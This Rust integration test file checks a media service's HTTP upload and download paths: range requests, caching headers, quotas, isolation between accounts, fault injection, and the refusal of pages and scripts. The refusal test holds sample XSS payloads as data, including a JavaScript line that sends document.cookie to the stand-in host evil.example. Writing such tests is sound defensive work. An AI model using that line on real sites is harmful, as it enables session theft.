//! Media through the real HTTP surface: a platform on a fresh data directory behind the real
//! router on a loopback port, driven with `ureq`. Uploads through the admin API, downloads
//! through the public `/media/{account}/{media_id}` route: byte-identical round trips, ranges,
//! caching headers, refusals of pages and scripts, quotas, deletes, isolation between accounts,
//! and a storage fault in the middle of an upload.

mod common;

use std::sync::Arc;
use std::sync::atomic::{AtomicUsize, Ordering};

use plaza_host::api::{AppState, auth::AdminToken, router};
use plaza_host::media::CHUNK_BYTES;
use plaza_host::platform::ManualClock;
use plaza_host::storage::backend::{Backend, SledBackend, Tree, Txn, TxnBody};
use plaza_host::{Platform, PlazaError};
use serde_json::Value;
use sha2::{Digest, Sha256};

/// 2026-03-10T00:00:00Z.
const START: u64 = 1_773_100_800_000;
const TOKEN: &str = "media-test-admin-token";

/// The real router on 127.0.0.1, on a runtime of its own (so the test may block on `ureq`);
/// stopped and joined on drop.
struct Server {
    base: String,
    stop: Option<tokio::sync::oneshot::Sender<()>>,
    thread: Option<std::thread::JoinHandle<()>>,
}

impl Server {
    fn start(platform: Arc<Platform>) -> Server {
        let listener = std::net::TcpListener::bind("127.0.0.1:0").expect("bind");
        listener.set_nonblocking(true).expect("nonblocking");
        let base = format!("http://{}", listener.local_addr().expect("addr"));
        platform.set_public_url(&base);
        let app = router(AppState {
            platform,
            admin_token: Arc::new(AdminToken::new(TOKEN)),
        });
        let (stop, stopped) = tokio::sync::oneshot::channel::<()>();
        let thread = std::thread::spawn(move || {
            let rt = tokio::runtime::Builder::new_multi_thread()
                .worker_threads(1)
                .enable_all()
                .build()
                .expect("server runtime");
            rt.block_on(async move {
                let listener = tokio::net::TcpListener::from_std(listener).expect("listener");
                axum::serve(listener, app)
                    .with_graceful_shutdown(async {
                        let _ = stopped.await;
                    })
                    .await
                    .expect("serve");
            });
        });
        Server {
            base,
            stop: Some(stop),
            thread: Some(thread),
        }
    }

    fn admin(&self, path: &str) -> String {
        format!("{}/api/v1{path}", self.base)
    }
}

impl Drop for Server {
    fn drop(&mut self) {
        if let Some(stop) = self.stop.take() {
            let _ = stop.send(());
        }
        if let Some(t) = self.thread.take() {
            let _ = t.join();
        }
    }
}

/// One HTTP answer.
struct Answer {
    status: u16,
    headers: ureq::http::HeaderMap,
    body: Vec<u8>,
}

impl Answer {
    fn header(&self, name: &str) -> Option<&str> {
        self.headers.get(name).and_then(|v| v.to_str().ok())
    }
    fn json(&self) -> Value {
        serde_json::from_slice(&self.body).unwrap_or_else(|e| {
            panic!(
                "not JSON ({e}): {} {}",
                self.status,
                String::from_utf8_lossy(&self.body)
            )
        })
    }
    fn error_code(&self) -> String {
        self.json()["error"]["code"]
            .as_str()
            .unwrap_or_default()
            .to_string()
    }
    fn error_message(&self) -> String {
        self.json()["error"]["message"]
            .as_str()
            .unwrap_or_default()
            .to_string()
    }
}

fn agent() -> ureq::Agent {
    ureq::Agent::config_builder()
        .http_status_as_error(false)
        .build()
        .new_agent()
}

fn answer(resp: Result<ureq::http::Response<ureq::Body>, ureq::Error>) -> Answer {
    let mut resp = resp.expect("request reached the server");
    let status = resp.status().as_u16();
    let headers = resp.headers().clone();
    let body = resp
        .body_mut()
        .with_config()
        .limit(u64::MAX)
        .read_to_vec()
        .expect("body");
    Answer {
        status,
        headers,
        body,
    }
}

fn upload(s: &Server, account: &str, content_type: &str, bytes: &[u8]) -> Answer {
    answer(
        agent()
            .post(&s.admin(&format!("/accounts/{account}/media")))
            .header("Authorization", &format!("Bearer {TOKEN}"))
            .header("Content-Type", content_type)
            .send(bytes),
    )
}

fn admin_get(s: &Server, path: &str) -> Answer {
    answer(
        agent()
            .get(&s.admin(path))
            .header("Authorization", &format!("Bearer {TOKEN}"))
            .call(),
    )
}

fn admin_delete(s: &Server, path: &str) -> Answer {
    answer(
        agent()
            .delete(&s.admin(path))
            .header("Authorization", &format!("Bearer {TOKEN}"))
            .call(),
    )
}

/// A public GET with extra headers.
fn fetch(url: &str, headers: &[(&str, &str)]) -> Answer {
    let mut req = agent().get(url);
    for (k, v) in headers {
        req = req.header(*k, *v);
    }
    answer(req.call())
}

/// A PNG signature followed by `len` bytes of a pattern that differs per position and `seed`.
fn png(len: usize, seed: u8) -> Vec<u8> {
    let mut v = b"\x89PNG\r\n\x1a\n\0\0\0\rIHDR".to_vec();
    v.extend((0..len).map(|i| (i as u8).wrapping_mul(31).wrapping_add(seed) ^ (i >> 8) as u8));
    v
}

fn sha256_hex(bytes: &[u8]) -> String {
    hex::encode(Sha256::digest(bytes))
}

/// A platform with accounts `acc` and `acc2`, served on a loopback port.
async fn serving(
    configure: impl FnOnce(&mut plaza_host::PlatformOptions),
) -> (tempfile::TempDir, Arc<Platform>, Server) {
    let clock = Arc::new(ManualClock::new(START));
    let (dir, p) = common::platform(clock, configure);
    common::service_account(&p, "acc", None, START).await;
    common::service_account(&p, "acc2", None, START).await;
    let server = Server::start(p.clone());
    (dir, p, server)
}

#[tokio::test]
async fn an_upload_is_served_byte_for_byte_with_headers_that_keep_it_from_running_as_a_page() {
    let (_dir, _p, s) = serving(|_| {}).await;
    // More than two chunks, so the download is assembled from several records.
    let bytes = png(2 * CHUNK_BYTES as usize + 12_345, 1);
    let up = upload(&s, "acc", "image/png", &bytes);
    assert_eq!(up.status, 201, "{}", String::from_utf8_lossy(&up.body));
    let stored = up.json();
    let id = sha256_hex(&bytes);
    assert_eq!(stored["media_id"], id.as_str());
    assert_eq!(stored["content_type"], "image/png");
    assert_eq!(stored["size"], bytes.len() as u64);
    let url = format!("{}/media/acc/{id}", s.base);
    assert_eq!(stored["url"], url.as_str());

    let got = fetch(&url, &[]);
    assert_eq!(got.status, 200);
    assert!(got.body == bytes, "the served bytes are the uploaded ones");
    assert_eq!(got.header("content-type"), Some("image/png"));
    assert_eq!(got.header("etag"), Some(format!("\"{id}\"").as_str()));
    assert_eq!(got.header("x-content-type-options"), Some("nosniff"));
    assert_eq!(
        got.header("content-security-policy"),
        Some("default-src 'none'; sandbox")
    );
    assert_eq!(
        got.header("content-disposition"),
        Some(format!("inline; filename=\"{id}.png\"").as_str())
    );
    assert_eq!(got.header("accept-ranges"), Some("bytes"));
    assert!(
        got.header("cache-control")
            .is_some_and(|c| c.contains("immutable") && c.contains("max-age=31536000")),
        "{:?}",
        got.header("cache-control")
    );

    let head = answer(agent().head(&url).call());
    assert_eq!(head.status, 200);
    assert!(head.body.is_empty());
    assert_eq!(
        head.header("content-length"),
        Some(bytes.len().to_string().as_str())
    );
    assert_eq!(head.header("content-type"), Some("image/png"));

    // The same bytes again: the same id, nothing new stored or counted.
    let again = upload(&s, "acc", "image/png", &bytes);
    assert_eq!(again.status, 200);
    assert_eq!(again.json()["created"], false);
    assert_eq!(again.json()["media_id"], id.as_str());
    let list = admin_get(&s, "/accounts/acc/media").json();
    assert_eq!(list["usage"]["blobs"], 1);
    assert_eq!(list["usage"]["bytes"], bytes.len() as u64);
    assert_eq!(list["media"][0]["media_id"], id.as_str());
    assert_eq!(list["media"][0]["uploaded_by"]["kind"], "operator");

    // A PDF is downloaded, never shown in the page.
    let pdf = b"%PDF-1.7\n1 0 obj\n<<>>\nendobj\ntrailer\n<<>>\n%%EOF\n".to_vec();
    let up = upload(&s, "acc", "application/pdf", &pdf);
    assert_eq!(up.status, 201, "{}", String::from_utf8_lossy(&up.body));
    let got = fetch(up.json()["url"].as_str().unwrap(), &[]);
    assert_eq!(got.body, pdf);
    assert_eq!(got.header("content-type"), Some("application/pdf"));
    assert!(
        got.header("content-disposition")
            .is_some_and(|d| d.starts_with("attachment;")),
        "{:?}",
        got.header("content-disposition")
    );
}

#[tokio::test]
async fn range_requests_answer_first_middle_last_and_suffix_ranges() {
    let (_dir, _p, s) = serving(|_| {}).await;
    // A video of a little over two chunks, as a player would seek in it.
    let video = mp4_of(&png(2 * CHUNK_BYTES as usize + 999, 2));
    let size = video.len();
    let up = upload(&s, "acc", "video/mp4", &video);
    assert_eq!(up.status, 201, "{}", String::from_utf8_lossy(&up.body));
    let url = up.json()["url"].as_str().unwrap().to_string();
    let c = CHUNK_BYTES as usize;
    let cases: &[(String, std::ops::Range<usize>)] = &[
        ("bytes=0-99".into(), 0..100),
        // Across the first chunk boundary.
        (format!("bytes={}-{}", c - 10, c + 9), c - 10..c + 10),
        // Exactly the second chunk.
        (format!("bytes={}-{}", c, 2 * c - 1), c..2 * c),
        (format!("bytes={}-", size - 700), size - 700..size),
        ("bytes=-500".into(), size - 500..size),
        (format!("bytes=10-{}", size * 2), 10..size),
    ];
    for (range, want) in cases {
        let got = fetch(&url, &[("Range", range)]);
        assert_eq!(got.status, 206, "{range}");
        assert_eq!(
            got.header("content-range"),
            Some(format!("bytes {}-{}/{size}", want.start, want.end - 1).as_str()),
            "{range}"
        );
        assert!(got.body == video[want.clone()], "{range}: the right bytes");
        assert_eq!(got.header("content-type"), Some("video/mp4"));
    }

    let past = fetch(&url, &[("Range", &format!("bytes={size}-"))]);
    assert_eq!(past.status, 416);
    assert_eq!(
        past.header("content-range"),
        Some(format!("bytes */{size}").as_str())
    );
    assert_eq!(past.error_code(), "invalid");

    // Several ranges at once, or a range of a representation the client no longer has: the
    // whole blob.
    let multi = fetch(&url, &[("Range", "bytes=0-1,5-6")]);
    assert_eq!(multi.status, 200);
    assert!(multi.body == video);
    let stale = fetch(&url, &[("Range", "bytes=0-1"), ("If-Range", "\"other\"")]);
    assert_eq!(stale.status, 200);
    let etag = stale.header("etag").unwrap().to_string();
    let fresh = fetch(&url, &[("Range", "bytes=0-1"), ("If-Range", &etag)]);
    assert_eq!(fresh.status, 206);
    assert_eq!(fresh.body, video[0..2]);
}

/// An MP4 (`ftyp isom`) whose payload is `payload`.
fn mp4_of(payload: &[u8]) -> Vec<u8> {
    let mut v = vec![0, 0, 0, 0x18];
    v.extend_from_slice(b"ftypisom\0\0\x02\0isomiso2");
    v.extend_from_slice(payload);
    v
}

#[tokio::test]
async fn if_none_match_with_the_etag_answers_304_without_the_body() {
    let (_dir, _p, s) = serving(|_| {}).await;
    let bytes = png(5000, 3);
    let url = upload(&s, "acc", "image/png", &bytes).json()["url"]
        .as_str()
        .unwrap()
        .to_string();
    let etag = fetch(&url, &[]).header("etag").unwrap().to_string();
    let cached = fetch(&url, &[("If-None-Match", &etag)]);
    assert_eq!(cached.status, 304);
    assert!(cached.body.is_empty());
    assert_eq!(cached.header("etag"), Some(etag.as_str()));
    let weak = fetch(&url, &[("If-None-Match", &format!("\"x\", W/{etag}"))]);
    assert_eq!(weak.status, 304);
    let other = fetch(&url, &[("If-None-Match", "\"something-else\"")]);
    assert_eq!(other.status, 200);
    assert!(other.body == bytes);
}

#[tokio::test]
async fn html_svg_and_scripts_are_refused_whatever_they_are_declared_as_and_nothing_is_stored() {
    let (_dir, p, s) = serving(|_| {}).await;
    let before = data_snapshot(&p);
    let html = b"<html><script>fetch('/api/v1/accounts')</script></html>".to_vec();
    let svg = b"<svg xmlns=\"http://www.w3.org/2000/svg\" onload=\"alert(1)\"><script>alert(2)</script></svg>".to_vec();
    let js = b"document.location='https://evil.example/?c='+document.cookie".to_vec();
    let cases: &[(&[u8], &str, &str)] = &[
        (&html, "text/html", "HTML"),
        (&html, "image/png", "HTML"),
        (&svg, "image/svg+xml", "SVG"),
        (&svg, "image/png", "SVG"),
        (&js, "text/javascript", "text"),
        (&js, "image/gif", "text"),
    ];
    for (bytes, declared, named) in cases {
        let a = upload(&s, "acc", declared, bytes);
        assert_eq!(a.status, 400, "{declared}");
        assert_eq!(a.error_code(), "invalid");
        let m = a.error_message();
        assert!(m.contains(named) && m.contains("allowed are images"), "{m}");
    }
    // A real image declared as something else is refused too, naming both.
    let a = upload(&s, "acc", "image/jpeg", &png(100, 1));
    assert_eq!(a.status, 400);
    assert!(
        a.error_message().contains("image/png"),
        "{}",
        a.error_message()
    );
    let a = upload(&s, "acc", "", &png(100, 1));
    assert_eq!(a.status, 400);
    assert_eq!(
        data_snapshot(&p),
        before,
        "no refused upload stored anything"
    );
    assert_eq!(
        admin_get(&s, "/accounts/acc/media").json()["usage"]["blobs"],
        0
    );
}

#[tokio::test]
async fn an_upload_past_the_quota_stores_nothing_and_a_delete_frees_the_quota() {
    let (_dir, p, s) = serving(|o| o.media.default_quota_bytes = 10_000).await;
    let a = png(6000, 1);
    let b = png(6000, 2);
    let up = upload(&s, "acc", "image/png", &a);
    assert_eq!(up.status, 201);
    let a_url = up.json()["url"].as_str().unwrap().to_string();
    let a_id = sha256_hex(&a);

    let before = data_snapshot(&p);
    let refused = upload(&s, "acc", "image/png", &b);
    assert_eq!(refused.status, 429);
    assert_eq!(refused.error_code(), "quota_exceeded");
    assert!(
        refused.error_message().contains("quota of 10000 bytes"),
        "{}",
        refused.error_message()
    );
    assert_eq!(data_snapshot(&p), before, "nothing stored");
    assert_eq!(
        fetch(&format!("{}/media/acc/{}", s.base, sha256_hex(&b)), &[]).status,
        404
    );

    // Deleting frees the quota; deleting again is 404; the URL stops serving.
    assert_eq!(
        admin_delete(&s, &format!("/accounts/acc/media/{a_id}")).status,
        204
    );
    let gone = admin_delete(&s, &format!("/accounts/acc/media/{a_id}"));
    assert_eq!(gone.status, 404);
    assert_eq!(gone.error_code(), "not_found");
    assert_eq!(fetch(&a_url, &[]).status, 404);
    let usage = admin_get(&s, "/accounts/acc/media/quota").json();
    assert_eq!(
        (usage["bytes"].as_u64(), usage["blobs"].as_u64()),
        (Some(0), Some(0))
    );
    assert_eq!(upload(&s, "acc", "image/png", &b).status, 201);

    // The operator raises this account's quota.
    let raised = answer(
        agent()
            .put(&s.admin("/accounts/acc/media/quota"))
            .header("Authorization", &format!("Bearer {TOKEN}"))
            .send_json(serde_json::json!({ "quota_bytes": 20_000 })),
    );
    assert_eq!(raised.status, 200);
    assert_eq!(raised.json()["quota_bytes"], 20_000);
    assert_eq!(upload(&s, "acc", "image/png", &a).status, 201);
}

#[tokio::test]
async fn another_account_cannot_read_a_blob_under_its_own_path() {
    let (_dir, _p, s) = serving(|_| {}).await;
    let bytes = png(3000, 4);
    let id = upload(&s, "acc", "image/png", &bytes).json()["media_id"]
        .as_str()
        .unwrap()
        .to_string();
    assert_eq!(
        fetch(&format!("{}/media/acc/{id}", s.base), &[]).status,
        200
    );
    for path in [format!("/media/acc2/{id}"), format!("/media/nobody/{id}")] {
        let a = fetch(&format!("{}{path}", s.base), &[]);
        assert_eq!(a.status, 404, "{path}");
        assert_eq!(a.error_code(), "not_found");
    }
    assert_eq!(
        admin_get(&s, &format!("/accounts/acc2/media/{id}")).status,
        404
    );
    assert_eq!(
        admin_get(&s, "/accounts/acc2/media").json()["media"],
        serde_json::json!([])
    );
    // A malformed id says what a media id is.
    let bad = fetch(&format!("{}/media/acc/not-a-hash", s.base), &[]);
    assert_eq!(bad.status, 400);
    assert!(
        bad.error_message().contains("64 lowercase hex"),
        "{}",
        bad.error_message()
    );
    // The admin routes need the token; the public one does not.
    let anonymous = answer(agent().get(&s.admin("/accounts/acc/media")).call());
    assert_eq!(anonymous.status, 401);
    let anonymous_upload = answer(
        agent()
            .post(&s.admin("/accounts/acc/media"))
            .header("Content-Type", "image/png")
            .send(&png(10, 9)[..]),
    );
    assert_eq!(anonymous_upload.status, 401);
}

#[tokio::test]
async fn an_image_message_in_the_outbox_shows_where_its_blob_is_served() {
    use plaza_host::messaging::content::MessageContent;
    use plaza_host::messaging::outbox::{Delivery, OutboxEntry};

    let (_dir, p, s) = serving(|_| {}).await;
    let id = upload(&s, "acc", "image/png", &png(100, 5)).json()["media_id"]
        .as_str()
        .unwrap()
        .to_string();
    let entry = |n: u32, media_id: &str| OutboxEntry {
        id: format!("m{n}"),
        at: START,
        delivery: Delivery::CustomerService,
        plugin: Some("probe".into()),
        content: MessageContent::Image {
            media_id: media_id.into(),
            url: None,
        },
    };
    p.store
        .write(|tx| {
            p.outbox.append_in(tx, "acc", "o-1", &entry(1, &id))?;
            p.outbox
                .append_in(tx, "acc", "o-1", &entry(2, "wx-channel-media"))
        })
        .unwrap()
        .durable()
        .await
        .unwrap();
    let messages = admin_get(&s, "/accounts/acc/followers/o-1/messages").json();
    let url = format!("{}/media/acc/{id}", s.base);
    assert_eq!(messages["messages"][0]["url"], url.as_str());
    assert!(
        messages["messages"][1].get("url").is_none(),
        "an id the store does not hold gets no URL"
    );
    assert_eq!(fetch(&url, &[]).status, 200);
}

/// Delegates to sled; the `fail_at`-th write of the armed unit of work fails as a full disk
/// would (the integration-test twin of `storage::testing::FaultyBackend`).
struct FaultyBackend {
    inner: Arc<dyn Backend>,
    writes: AtomicUsize,
    fail_at: AtomicUsize,
}

struct FaultyTxn<'a> {
    inner: &'a mut dyn Txn,
    owner: &'a FaultyBackend,
}

impl FaultyTxn<'_> {
    fn count(&self) -> plaza_host::Result<()> {
        let n = self.owner.writes.fetch_add(1, Ordering::SeqCst) + 1;
        if n == self.owner.fail_at.load(Ordering::SeqCst) {
            return Err(PlazaError::Unavailable(format!(
                "injected fault at write {n}"
            )));
        }
        Ok(())
    }
}

impl Txn for FaultyTxn<'_> {
    fn get(&mut self, tree: &str, key: &[u8]) -> plaza_host::Result<Option<Vec<u8>>> {
        self.inner.get(tree, key)
    }
    fn insert(&mut self, tree: &str, key: &[u8], value: Vec<u8>) -> plaza_host::Result<()> {
        self.count()?;
        self.inner.insert(tree, key, value)
    }
    fn remove(&mut self, tree: &str, key: &[u8]) -> plaza_host::Result<Option<Vec<u8>>> {
        self.count()?;
        self.inner.remove(tree, key)
    }
}

impl Backend for FaultyBackend {
    fn tree(&self, name: &str) -> plaza_host::Result<Arc<dyn Tree>> {
        self.inner.tree(name)
    }
    fn tree_names(&self) -> plaza_host::Result<Vec<String>> {
        self.inner.tree_names()
    }
    fn transaction(&self, body: &mut TxnBody<'_>) -> plaza_host::Result<()> {
        self.inner.transaction(&mut |txn| {
            body(&mut FaultyTxn {
                inner: txn,
                owner: self,
            })
        })
    }
    fn flush(&self) -> plaza_host::Result<()> {
        self.inner.flush()
    }
}

#[tokio::test]
async fn a_storage_fault_at_the_second_write_of_an_upload_changes_nothing() {
    let db = tempfile::tempdir().unwrap();
    let faulty = Arc::new(FaultyBackend {
        inner: Arc::new(SledBackend::open(db.path()).unwrap()),
        writes: AtomicUsize::new(0),
        fail_at: AtomicUsize::new(usize::MAX),
    });
    let backend: Arc<dyn Backend> = faulty.clone();
    let (_dir, p, s) = serving(move |o| o.backend = Some(backend)).await;
    let bytes = png(3 * CHUNK_BYTES as usize, 6);

    let before = data_snapshot(&p);
    faulty.writes.store(0, Ordering::SeqCst);
    faulty.fail_at.store(2, Ordering::SeqCst);
    let failed = upload(&s, "acc", "image/png", &bytes);
    faulty.fail_at.store(usize::MAX, Ordering::SeqCst);
    assert_eq!(failed.status, 503);
    assert_eq!(failed.error_code(), "unavailable");
    assert_eq!(data_snapshot(&p), before, "the failed upload left nothing");
    assert_eq!(
        fetch(&format!("{}/media/acc/{}", s.base, sha256_hex(&bytes)), &[]).status,
        404
    );

    // Once the fault is gone, the same upload goes through whole.
    let ok = upload(&s, "acc", "image/png", &bytes);
    assert_eq!(ok.status, 201);
    let got = fetch(ok.json()["url"].as_str().unwrap(), &[]);
    assert!(got.body == bytes);
    assert_eq!(
        admin_get(&s, "/accounts/acc/media/quota").json()["bytes"],
        bytes.len() as u64
    );
}

/// Every stored record but the audit log's: a refused request is still an audited attempt, and
/// these tests are about the data it would have changed.
fn data_snapshot(p: &plaza_host::platform::Platform) -> Vec<(String, Vec<u8>, Vec<u8>)> {
    p.store
        .snapshot()
        .unwrap()
        .into_iter()
        .filter(|(table, _, _)| table != "audit")
        .collect()
}
